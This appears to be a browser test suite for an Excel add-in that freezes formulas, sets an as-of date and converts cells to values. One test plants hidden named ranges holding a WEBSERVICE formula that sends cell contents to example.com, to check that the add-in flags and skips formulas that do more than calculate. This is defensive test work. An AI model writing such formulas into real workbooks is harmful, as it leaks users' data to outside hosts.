/// <reference types="office-js" />
/** Frozen formulas, the date and values-only copies in the built add-in, in the pane and on the sheet. */
import { fingerprint, namesOfPin } from "../../src/features/pins/sheet/pin-records";
import { splitFormula } from "../../src/host/formula-references";
import { describeInBrowser } from "./chromium";
import { paneFrameOf } from "./pane-screens";
import { viewPane } from "./pane-view";
import { openWorkbench, serverOfSuite } from "./workbench-page";

const PAGE_MS = 240_000;

describeInBrowser("the model at hand", (browser) => {
  const server = serverOfSuite(browser);

  it(
    "is pinned, unpinned, dated, handed over and taken back",
    async () => {
      const workbench = await openWorkbench(browser, server, { width: 1440, height: 1800 });
      const { page } = workbench;
      const pane = viewPane(page);
      const { frame } = pane;
      /** How far a button is below the top of its section. */
      const placeOf = (name: string): Promise<number> =>
        frame.getByRole("button", { name, exact: true }).evaluate((button) => {
          const [top = 0, own = 0] = [button.closest("section"), button].map((one) => one?.getBoundingClientRect().top);
          return own - top;
        });
      await workbench.settled();
      await pane.resize(420);
      await frame.getByRole("button", { name: "As-of date, frozen cells, values-only copy" }).click();
      await frame.getByRole("heading", { name: "Frozen cells" }).waitFor();
      await pane.picture("model-empty");
      expect(await pane.seriousFindings()).toEqual([]);

      await workbench.setCell("R2", `=RENT.OBSERVED("${server.subject}","all","units_observed")`);
      await workbench.setCell("R3", "=R2*2");
      await workbench.settled();
      const shown = await workbench.text("R2");
      await workbench.select("R3");
      const place = await placeOf("Freeze for sensitivity");
      await frame.getByRole("button", { name: "Freeze for sensitivity" }).click();
      await frame.getByText("1 formula frozen (1 cell).").waitFor();
      expect(await placeOf("Freeze for sensitivity")).toEqual(place);
      expect(await workbench.text("R2")).toBe(shown);
      await pane.picture("model-pinned");
      expect(await pane.seriousFindings()).toEqual([]);
      await frame.getByRole("button", { name: "Unfreeze Underwriting!R2" }).click();
      await frame.getByText("1 formula restored.").waitFor();
      await frame.getByText("No frozen cells.").waitFor();

      const requests = server.requests.length;
      await frame.getByLabel("Date", { exact: true }).fill("2025-06-30");
      const dated = await placeOf("Set date");
      await frame.getByRole("button", { name: "Set date" }).click();
      await frame.getByText("As-of date set to Jun 30, 2025.").waitFor();
      await frame.getByText("another date. Nothing changes until you refresh").waitFor();
      expect(await placeOf("Set date")).toEqual(dated);
      await workbench.settled();
      await pane.picture("model-as-of");
      expect(await pane.seriousFindings()).toEqual([]);
      expect(await workbench.text("R2")).toBe(shown);
      expect(server.requests.slice(requests)).toEqual([]);
      await frame.getByRole("button", { name: "Clear", exact: true }).click();
      await frame.getByText("No date set").waitFor();
      await workbench.settled();
      expect(await workbench.text("R2")).toBe(shown);

      await frame.getByRole("button", { name: "Convert to values…" }).click();
      await pane.picture("model-hand-over-question");
      expect(await pane.seriousFindings()).toEqual([]);
      await frame.getByRole("button", { name: "Convert to values", exact: true }).click();
      await frame.getByText("Sources are on the worksheet Sources").waitFor();
      await pane.picture("model-handed-over");
      expect(await pane.seriousFindings()).toEqual([]);
      expect(await workbench.text("R2")).toBe(shown);
      await frame.getByRole("button", { name: "Restore formulas" }).click();
      await frame.getByText("restored, with saved results.").waitFor();
      await workbench.settled();
      expect(await workbench.text("R2")).toBe(shown);

      await pane.resize(320);
      await pane.theme("dark");
      await pane.picture("model-dark-320");
      expect([...(await pane.seriousFindings()), ...(await pane.clipped())]).toEqual([]);
    },
    PAGE_MS,
  );

  it(
    "lists nothing that is gone once it is values",
    async () => {
      const workbench = await openWorkbench(browser, server, { width: 1440, height: 1800 });
      const { page } = workbench;
      const pane = viewPane(page);
      const { frame } = pane;
      const errors = frame.getByRole("button", { name: "Show the errors in Activity" });
      const count = frame.locator("nav .count");
      await workbench.settled();
      await workbench.setCell("R2", `=RENT.OBSERVED("${server.subject}","all","units_observed")`);
      for (const cell of ["R4", "R5", "R6"]) await workbench.setCell(cell, `=RENT.FIND("nowhere near ${cell}")`);
      await workbench.settled();
      await count.filter({ hasText: "3" }).waitFor();
      // Deleted and typed over: no function is called that could report it.
      await workbench.setCell("R4", "");
      await workbench.setCell("R5", "7");
      await count.filter({ hasText: "1" }).waitFor();

      await workbench.select("R2");
      await frame.getByRole("button", { name: "As-of date, frozen cells, values-only copy" }).click();
      await frame.getByRole("button", { name: "Freeze selection" }).click();
      await frame.getByText("1 formula frozen (1 cell).").waitFor();
      await frame.getByRole("button", { name: "Convert to values…" }).click();
      await frame.getByRole("button", { name: "Convert to values", exact: true }).click();
      await frame.getByText("Sources are on the worksheet Sources").waitFor();
      await errors.waitFor({ state: "detached" });
      await count.waitFor({ state: "detached" });
      const frozen = frame.getByRole("list", { name: "Frozen formulas" }).getByRole("listitem");
      expect(await frozen.allInnerTexts()).toEqual([expect.stringContaining("Underwriting!R2")]);
      await pane.open("Activity");
      await pane.loaded();
      await frame.getByText("No cell shows a Compsheet error.").waitFor();
      expect(await frame.locator("main").innerText()).not.toMatch(/R[2456]\b/);
      expect(workbench.problems).toEqual([]);
    },
    PAGE_MS,
  );

  it(
    "shows formulas of foreign records before it writes them",
    async () => {
      const workbench = await openWorkbench(browser, server, { width: 1440, height: 1800 });
      const { page } = workbench;
      const pane = viewPane(page);
      const { frame } = pane;
      await workbench.settled();
      await pane.resize(420);
      await workbench.setCell("R2", "7");
      await workbench.setCell("R3", "8");
      const formula = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';
      const names = (["pin", "handover"] as const).flatMap((kind, index) =>
        namesOfPin(
          {
            ...{ id: index + 1, kind, formats: [["General"]], keys: [] },
            pieces: splitFormula(formula, "Underwriting"),
            rows: [fingerprint([7 + index])],
          },
          `Underwriting!$R$${index + 2}`,
        ),
      );
      const scripted = await paneFrameOf(page);
      await scripted.evaluate(async (added) => {
        const { Excel: excel } = globalThis as unknown as { readonly Excel: typeof Excel };
        await excel.run(async (context) => {
          for (const name of added) context.workbook.names.add(name.name, name.formula).visible = false;
          await context.sync();
        });
      }, names);
      await frame.getByRole("button", { name: "As-of date, frozen cells, values-only copy" }).click();
      await frame.getByText("Not frozen on this device").waitFor();
      await frame.getByRole("button", { name: "Unfreeze all (1)" }).click();
      await frame.getByText("1 frozen range keeps its value: check its formula below first.").waitFor();
      await frame.getByText("1 formula does more than calculate and wasn't converted on this device.").waitFor();
      expect([await workbench.text("R2"), await workbench.text("R3")]).toEqual(["7", "8"]);
      await pane.picture("model-foreign-formulas");
      expect([...(await pane.seriousFindings()), ...(await pane.clipped())]).toEqual([]);
    },
    PAGE_MS,
  );
});
